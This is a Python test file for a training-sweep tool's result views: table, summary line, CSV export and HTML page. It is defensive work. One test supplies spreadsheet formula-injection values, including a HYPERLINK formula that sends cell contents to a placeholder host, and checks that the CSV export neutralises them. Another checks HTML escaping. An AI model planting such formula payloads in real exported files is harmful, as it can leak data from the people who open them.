"""What a sweep shows of its trials: table, line, CSV and page, for values of every kind."""

import csv
import io
from html.parser import HTMLParser

import msgspec
from msgspec.structs import replace
from rich.console import Console

from torchyard.api.resource import ObjectMeta, TrainingJob
from torchyard.api.status import Progress, State, TrainingJobStatus
from torchyard.cli.views.sweep_page import page_of
from torchyard.cli.views.sweep_table import line_of, table_of
from torchyard.sweeps.codec import read_sweep
from torchyard.sweeps.resource import TRIAL, TrialRecord, Unit
from torchyard.sweeps.results import best_so_far, csv_of, results_of

SWEEP = read_sweep(
    {
        "metadata": {"name": "tune"},
        "spec": {
            "objective": {"metric": "loss", "goal": "minimize"},
            "earlyStopping": {"name": "asha"},
            "parameters": [
                {"path": "trainer.params.lr", "float": {"min": 0.001, "max": 0.1, "log": True}},
                {"path": "trainer.params.kind", "choice": ["<a>", True]},
                {
                    "path": "trainer.params.depth",
                    "int": {"min": 1, "max": 4},
                    "conditions": [{"path": "trainer.params.kind", "values": [True]}],
                },
            ],
            "maxTrials": 9,
            "jobTemplate": {"spec": {"trainer": {"name": "x:Y"}}},
        },
    }
)
LR, KIND, DEPTH = (parameter.path for parameter in SWEEP.spec.parameters)


def job(number, state, metrics, parameters, thresholds=None):
    record = TrialRecord(number=number, parameters=parameters, units=[Unit(number=number, thresholds=thresholds or {})])
    metadata = ObjectMeta(name=f"tune-{number}", annotations={TRIAL: msgspec.json.encode(record).decode()})
    status = TrainingJobStatus(state=state, metrics=metrics, progress=Progress(percent=40.0))
    return TrainingJob(metadata=metadata, spec=SWEEP.spec.job_template.spec, status=status)


JOBS = {
    0: job(0, State.SUCCEEDED, {"loss": 2.0}, {LR: 0.01, KIND: "<a>"}),
    1: job(1, State.SUCCEEDED, {"loss": 1.5}, {LR: 0.1, KIND: True, DEPTH: 3}),
    2: job(2, State.SUSPENDED, {"loss": 1.0, "loss@10%": 9.0}, {LR: 0.001, KIND: "<a>"}, {"10": 8.0}),
    3: job(3, State.FAILED, {}, {LR: 0.05, KIND: "<a>"}),
    4: job(4, State.RUNNING, {"loss": 0.5}, {LR: 0.02, KIND: "<a>"}),
    5: job(5, State.SUSPENDED, {"loss": 0.7}, {LR: 0.03, KIND: "<a>"}),
}
RESULTS = results_of(SWEEP, JOBS)


def test_a_trial_is_worth_what_it_was_stopped_with_and_the_best_one_is_complete():
    assert [(each.outcome, each.value) for each in RESULTS] == [
        ("complete", 2.0),
        ("complete", 1.5),
        ("stopped", 9.0),
        ("failed", None),
        ("running", 0.5),
        ("suspended", 0.7),
    ]
    assert RESULTS[2].progress == "10%", "that of its value, however far it got before it stopped"
    assert [each.number for each in RESULTS if each.best] == [1]
    assert best_so_far(SWEEP, RESULTS) == [2.0, 1.5]


def test_the_table_and_its_line_name_the_best_trial():
    console = Console(width=140, record=True, file=io.StringIO())
    console.print(table_of(SWEEP, JOBS))
    text = console.export_text()
    counts = "1 running, 1 suspended, 2 complete, 1 stopped, 1 failed"
    line = f"6 of 9 trials ({counts}); best: tune-1 with loss 1.500 (lr=0.100, kind=True"
    assert line_of(SWEEP, JOBS).startswith(line)
    assert line in text
    assert all(f"tune-{number}" in text for number in JOBS)


def test_a_grid_has_no_more_trials_than_points():
    points = [replace(SWEEP.spec.parameters[0], float_=None, choice=[0.1, 0.2])]
    spec = replace(SWEEP.spec, algorithm=replace(SWEEP.spec.algorithm, name="grid"), parameters=points)
    assert line_of(replace(SWEEP, spec=spec), {}) == "0 of 2 trials (none yet)"


def test_csv_has_a_line_for_each_trial():
    rows = list(csv.DictReader(io.StringIO(csv_of(SWEEP, RESULTS))))
    assert [row["loss"] for row in rows] == ["2.0", "1.5", "9.0", "", "0.5", "0.7"]
    assert [row["best"] for row in rows] == ["0", "1", "0", "0", "0", "0"]
    assert rows[0][DEPTH] == ""


def test_no_text_in_csv_is_a_formula():
    formulas = ["=1+1", "+A1", "-A1", "@SUM(A1)", "\t=A1", "\n=A1", '=HYPERLINK("https://x.y/"&A1)', "\uff1dA1"]
    jobs = {
        number: job(number, State.SUCCEEDED, {"loss": -1.0}, {KIND: value, LR: -2.5})
        for number, value in enumerate([*formulas, "x\r=A1"])
    }
    rows = list(csv.DictReader(io.StringIO(csv_of(SWEEP, results_of(SWEEP, jobs)))))
    assert [row[KIND] for row in rows] == [*(f"'{formula}" for formula in formulas), "x\n=A1"]
    assert {(row["loss"], row[LR]) for row in rows} == {("-1.0", "-2.5")}


def test_the_page_is_whole_and_loads_nothing():
    page = page_of(SWEEP, RESULTS, {LR: 0.75, KIND: 0.25})

    class Tags(HTMLParser):
        def __init__(self):
            super().__init__()
            self.open, self.all = [], []

        def handle_starttag(self, tag, attrs):
            self.all.append(tag)
            if tag not in {"meta", "link"}:
                self.open.append(tag)

        def handle_startendtag(self, tag, attrs):
            self.all.append(tag)

        def handle_endtag(self, tag):
            assert self.open.pop() == tag

    tags = Tags()
    tags.feed(page)
    assert tags.open == []
    assert not {"script", "link", "img", "a"} & set(tags.all)
    assert tags.all.count("circle") == 5
    assert "75 %" in page
    assert "&lt;a&gt;" in page
    assert "<a>" not in page
    assert page_of(SWEEP, [], {}).count("No trial") == 2
